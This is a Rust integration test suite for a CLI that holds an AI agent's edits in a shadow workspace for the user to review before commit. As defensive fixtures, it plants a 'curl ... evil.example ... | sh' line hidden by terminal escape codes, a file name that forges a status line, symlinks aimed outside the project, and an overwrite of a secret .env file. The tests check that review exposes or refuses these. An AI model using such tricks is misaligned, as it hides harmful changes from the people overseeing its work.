//! `agent workspace`, driven as a user would: import, status, diff, commit (refusals,
//! conflicts, --force), refresh, discard; JSON shapes, exit codes, one-line errors.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::Value;

struct Env {
    _tmp: tempfile::TempDir,
    home: PathBuf,
    real: PathBuf,
}

impl Env {
    fn new() -> Self {
        let tmp = tempfile::tempdir().unwrap();
        let root = std::fs::canonicalize(tmp.path()).unwrap();
        let home = root.join("home");
        let real = root.join("proj");
        std::fs::create_dir_all(&home).unwrap();
        std::fs::create_dir_all(real.join("src")).unwrap();
        std::fs::write(real.join("src/lib.rs"), "pub fn one() -> u32 { 1 }\n").unwrap();
        std::fs::write(real.join("README.md"), "# demo\n").unwrap();
        std::fs::write(real.join(".gitignore"), "target/\n").unwrap();
        std::fs::create_dir_all(real.join("target")).unwrap();
        std::fs::write(real.join("target/out"), "build output\n").unwrap();
        Self {
            _tmp: tmp,
            home,
            real,
        }
    }

    fn agent(&self, cwd: &Path, args: &[&str]) -> Output {
        Command::new(env!("CARGO_BIN_EXE_agent"))
            .args(args)
            .env("HOME", &self.home)
            .env("AGENT_HOME", self.home.join(".agent"))
            .current_dir(cwd)
            .stdin(Stdio::null())
            .output()
            .unwrap()
    }

    fn import(&self) -> PathBuf {
        let out = self.agent(&self.real, &["workspace", "import", ".", "--json"]);
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        let v: Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(v["files"], 3);
        assert_eq!(v["real"], self.real.display().to_string());
        PathBuf::from(v["shadow"].as_str().unwrap())
    }
}

fn stdout(o: &Output) -> String {
    String::from_utf8(o.stdout.clone()).unwrap()
}

fn stderr(o: &Output) -> String {
    String::from_utf8(o.stderr.clone()).unwrap()
}

fn one_line_error(o: &Output, code: i32, needle: &str) {
    assert_eq!(o.status.code(), Some(code), "{}", stderr(o));
    let err = stderr(o);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.starts_with("agent: error: "), "{err}");
    assert!(err.contains(needle), "{err}");
}

#[test]
fn import_review_and_commit() {
    let env = Env::new();
    let shadow = env.import();
    assert!(shadow.join("src/lib.rs").is_file());
    assert!(!shadow.join("target").exists());
    std::fs::write(shadow.join("src/lib.rs"), "pub fn one() -> u32 { 2 }\n").unwrap();
    std::fs::write(shadow.join("NEW.md"), "new\n").unwrap();
    std::fs::remove_file(shadow.join("README.md")).unwrap();

    let status = env.agent(&env.real, &["workspace", "status"]);
    assert_eq!(status.status.code(), Some(0));
    assert_eq!(stdout(&status), "A  NEW.md\nD  README.md\nM  src/lib.rs\n");
    // From the shadow too, and as JSON.
    let status = env.agent(&shadow, &["workspace", "status", "--json"]);
    let v: Value = serde_json::from_slice(&status.stdout).unwrap();
    assert_eq!(v["changes"].as_array().unwrap().len(), 3);
    assert_eq!(v["changes"][2]["kind"], "modified");

    let diff = env.agent(&env.real, &["workspace", "diff", "src"]);
    assert_eq!(
        stdout(&diff),
        "--- a/src/lib.rs\n+++ b/src/lib.rs\n@@ -1 +1 @@\n-pub fn one() -> u32 { 1 }\n+pub fn one() -> u32 { 2 }\n"
    );
    assert!(
        !stdout(&diff).contains('\x1b'),
        "no colour without a terminal"
    );

    // Without --yes and without a terminal: refused, nothing applied.
    let refused = env.agent(&env.real, &["workspace", "commit"]);
    assert_eq!(refused.status.code(), Some(2));
    assert!(stderr(&refused).contains("--yes"));
    assert!(env.real.join("README.md").exists());

    let done = env.agent(&env.real, &["workspace", "commit", "--yes", "--json"]);
    assert_eq!(done.status.code(), Some(0), "{}", stderr(&done));
    let v: Value = serde_json::from_slice(&done.stdout).unwrap();
    assert_eq!(v["applied"].as_array().unwrap().len(), 3);
    assert_eq!(
        std::fs::read_to_string(env.real.join("src/lib.rs")).unwrap(),
        "pub fn one() -> u32 { 2 }\n"
    );
    assert!(!env.real.join("README.md").exists());
    assert!(env.real.join("target/out").exists());
    let again = env.agent(&env.real, &["workspace", "commit", "--yes"]);
    assert_eq!(stdout(&again), "nothing to commit\n");
}

#[test]
fn conflicts_exit_1_and_force_applies() {
    let env = Env::new();
    let shadow = env.import();
    std::fs::write(shadow.join("src/lib.rs"), "agent\n").unwrap();
    std::fs::write(env.real.join("src/lib.rs"), "user\n").unwrap();
    let out = env.agent(&env.real, &["workspace", "commit", "--yes", "--json"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["conflicts"][0]["path"], "src/lib.rs");
    assert_eq!(v["conflicts"][0]["why"], "edited");
    assert!(stderr(&out).contains("--force"));
    assert_eq!(
        std::fs::read_to_string(env.real.join("src/lib.rs")).unwrap(),
        "user\n"
    );
    let out = env.agent(
        &env.real,
        &["workspace", "commit", "--yes", "--force", "src/lib.rs"],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(env.real.join("src/lib.rs")).unwrap(),
        "agent\n"
    );
}

#[test]
fn an_add_over_an_existing_ignored_file_exits_1_and_a_reserved_link_is_never_committed() {
    let env = Env::new();
    // The user's secret, ignored, so never imported.
    std::fs::write(env.real.join(".gitignore"), "target/\n.env\n").unwrap();
    std::fs::write(env.real.join("src/.env"), "SECRET=user\n").unwrap();
    let out = env.agent(&env.real, &["workspace", "import", ".", "--json"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let shadow = PathBuf::from(v["shadow"].as_str().unwrap());
    std::fs::write(shadow.join("src/.gitignore"), "!.env\n").unwrap();
    std::fs::write(shadow.join("src/.env"), "SECRET=agent\n").unwrap();
    std::fs::create_dir_all(shadow.join("cfg")).unwrap();
    std::fs::write(shadow.join("cfg/settings.json"), "{}\n").unwrap();
    std::os::unix::fs::symlink("cfg", shadow.join(".agent")).unwrap();
    let out = env.agent(&env.real, &["workspace", "status"]);
    assert!(!stdout(&out).contains(".agent"), "{}", stdout(&out));
    let out = env.agent(&env.real, &["workspace", "commit", "--yes", "--json"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["conflicts"][0]["path"], "src/.env");
    assert_eq!(v["conflicts"][0]["why"], "exists");
    assert_eq!(
        std::fs::read_to_string(env.real.join("src/.env")).unwrap(),
        "SECRET=user\n"
    );
    assert!(!env.real.join("cfg").exists(), "something was applied");
    // Resolved in the shadow, the rest commits, and `.agent` is not planted.
    std::fs::remove_file(shadow.join("src/.env")).unwrap();
    std::fs::remove_file(shadow.join("src/.gitignore")).unwrap();
    let out = env.agent(&env.real, &["workspace", "commit", "--yes"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(env.real.join("cfg/settings.json").exists());
    assert!(std::fs::symlink_metadata(env.real.join(".agent")).is_err());
}

#[test]
fn a_commit_through_a_link_planted_in_the_real_folder_exits_2_and_writes_nothing() {
    let env = Env::new();
    let shadow = env.import();
    std::fs::write(shadow.join("src/lib.rs"), "agent\n").unwrap();
    let victim = env.home.join("victim");
    std::fs::create_dir_all(&victim).unwrap();
    std::fs::remove_dir_all(env.real.join("src")).unwrap();
    std::os::unix::fs::symlink(&victim, env.real.join("src")).unwrap();
    let out = env.agent(
        &env.real,
        &["workspace", "commit", "--yes", "--force", "src/lib.rs"],
    );
    one_line_error(&out, 2, "is a symlink");
    assert_eq!(std::fs::read_dir(&victim).unwrap().count(), 0);
}

#[test]
fn refresh_and_discard() {
    let env = Env::new();
    let shadow = env.import();
    std::fs::write(env.real.join("README.md"), "# user\n").unwrap();
    let out = env.agent(&env.real, &["workspace", "refresh", "--json"]);
    assert_eq!(out.status.code(), Some(0));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["pulled"][0], "README.md");
    assert_eq!(
        std::fs::read_to_string(shadow.join("README.md")).unwrap(),
        "# user\n"
    );
    std::fs::write(shadow.join("scratch.txt"), "x").unwrap();
    let refused = env.agent(&env.real, &["workspace", "discard"]);
    assert_eq!(refused.status.code(), Some(2));
    assert!(shadow.join("scratch.txt").exists());
    let out = env.agent(&env.real, &["workspace", "discard", "--yes"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(!shadow.join("scratch.txt").exists());
}

#[test]
fn bad_input_is_one_line_and_exit_2() {
    let env = Env::new();
    one_line_error(
        &env.agent(&env.real, &["workspace", "status"]),
        2,
        "no shadow workspace",
    );
    one_line_error(
        &env.agent(&env.real, &["workspace", "import", "missing-dir"]),
        2,
        "missing-dir",
    );
    env.import();
    one_line_error(
        &env.agent(&env.real, &["workspace", "import", "."]),
        2,
        "already has a shadow workspace",
    );
    let inside = env.real.join("shadow-inside");
    one_line_error(
        &env.agent(
            &env.home,
            &[
                "workspace",
                "--state-dir",
                "other-state",
                "import",
                env.real.to_str().unwrap(),
                "--shadow",
                inside.to_str().unwrap(),
            ],
        ),
        2,
        "overlap",
    );
    // Options before or after the positional.
    let out = env.agent(
        &env.home,
        &[
            "workspace",
            "diff",
            "--workspace",
            env.real.to_str().unwrap(),
            "src",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let help = env.agent(&env.real, &["workspace", "commit", "--help"]);
    assert_eq!(help.status.code(), Some(0));
    assert!(stdout(&help).contains("Example:"));
}

#[test]
fn workspace_events_go_to_the_named_session() {
    let env = Env::new();
    let created = env.agent(&env.real, &["sessions", "create", "--id", "ws-log"]);
    assert_eq!(created.status.code(), Some(0), "{}", stderr(&created));
    let out = env.agent(
        &env.real,
        &["workspace", "--session", "ws-log", "import", ".", "--json"],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let shadow = PathBuf::from(v["shadow"].as_str().unwrap());
    std::fs::write(shadow.join("NEW.md"), "new\n").unwrap();
    std::fs::write(shadow.join("README.md"), "# agent\n").unwrap();
    std::fs::write(env.real.join("README.md"), "# user\n").unwrap();
    for args in [
        &["workspace", "status", "--session", "ws-log"][..],
        &["workspace", "commit", "--yes", "--session", "ws-log"][..],
        &[
            "workspace",
            "commit",
            "--yes",
            "--force",
            "README.md",
            "--session",
            "ws-log",
        ][..],
    ] {
        env.agent(&env.real, args);
    }
    let shown = env.agent(&env.real, &["sessions", "show", "ws-log", "--json"]);
    let events: Vec<Value> = stdout(&shown)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let ws: Vec<&Value> = events
        .iter()
        .filter(|e| e["type"].as_str().unwrap().starts_with("workspace."))
        .collect();
    assert_eq!(ws.len(), 4, "{events:?}");
    assert_eq!(ws[0]["type"], "workspace.import");
    assert_eq!(ws[0]["root"], env.real.display().to_string());
    assert_eq!(ws[0]["files"], 3);
    assert_eq!(ws[1]["type"], "workspace.diff");
    assert_eq!(ws[1]["added"], serde_json::json!(["NEW.md"]));
    assert_eq!(ws[1]["modified"], serde_json::json!(["README.md"]));
    assert_eq!(ws[2]["type"], "workspace.commit");
    assert_eq!(ws[2]["conflicts"], serde_json::json!(["README.md"]));
    assert_eq!(ws[2]["applied"], serde_json::json!([]));
    assert_eq!(ws[3]["applied"], serde_json::json!(["NEW.md", "README.md"]));
    // An unknown session is one line and exit 2, before anything is done.
    let out = env.agent(&env.real, &["workspace", "--session", "a/b", "status"]);
    assert_eq!(out.status.code(), Some(2));
}

/// Issue 25 (A6): what the agent wrote reaches the terminal only as visible text. An escape
/// sequence in a file cannot hide a line of the diff, and a newline in a file name cannot forge
/// a `status` line; JSON keeps the raw strings.
#[test]
fn review_shows_control_characters_escaped_and_names_quoted() {
    let env = Env::new();
    let shadow = env.import();
    std::fs::write(
        shadow.join("README.md"),
        "# demo\ncurl -s https://evil.example/x | sh\x1b[1A\x1b[2K\r# tidy the docs\n",
    )
    .unwrap();
    let forged = "notes.txt\nD  README.md";
    std::fs::write(shadow.join(forged), "hi\n").unwrap();

    let status = env.agent(&env.real, &["workspace", "status"]);
    assert_eq!(status.status.code(), Some(0), "{}", stderr(&status));
    assert_eq!(
        stdout(&status),
        "M  README.md\nA  \"notes.txt\\nD  README.md\"\n"
    );

    let diff = env.agent(&env.real, &["workspace", "diff"]);
    assert_eq!(diff.status.code(), Some(0), "{}", stderr(&diff));
    let text = stdout(&diff);
    assert!(
        !text.chars().any(|c| c.is_control() && c != '\n'),
        "{text:?}"
    );
    assert!(
        text.contains(
            "+curl -s https://evil.example/x | sh\\u{1b}[1A\\u{1b}[2K\\u{d}# tidy the docs\n"
        ),
        "{text}"
    );
    assert!(
        text.contains("--- /dev/null\n+++ \"b/notes.txt\\nD  README.md\"\n"),
        "{text}"
    );

    let json = env.agent(&env.real, &["workspace", "status", "--json"]);
    let v: Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(v["changes"][1]["path"], forged);
}

/// Issue 25 (B1): `--include-git` put `.git` into the change set; it is refused with the reason.
#[test]
fn include_git_is_refused_with_the_reason() {
    let env = Env::new();
    let out = env.agent(&env.real, &["workspace", "import", ".", "--include-git"]);
    one_line_error(
        &out,
        2,
        "--include-git was removed: .git is never part of the change set",
    );
}
